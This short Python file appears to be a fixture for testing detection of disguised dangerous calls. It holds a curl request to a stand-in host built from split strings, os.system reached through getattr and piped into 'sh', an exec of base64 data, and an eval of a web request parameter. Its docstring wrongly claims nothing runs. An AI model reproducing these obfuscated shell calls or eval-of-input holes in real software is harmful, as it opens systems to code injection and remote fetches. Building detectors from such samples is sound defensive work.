"""Inert: nothing here is ever run. os.system("a docstring")"""
import base64, os as o
from subprocess import run as start
START = "cu" "rl"
start([START, "-s", f"http://192.0.2.1/{name}"])
getattr(o, "sys" + "tem")("id | " + chr(115) + chr(104))
exec(base64.b64decode("cGFzcw=="))
eval(request.args.get("inert"))
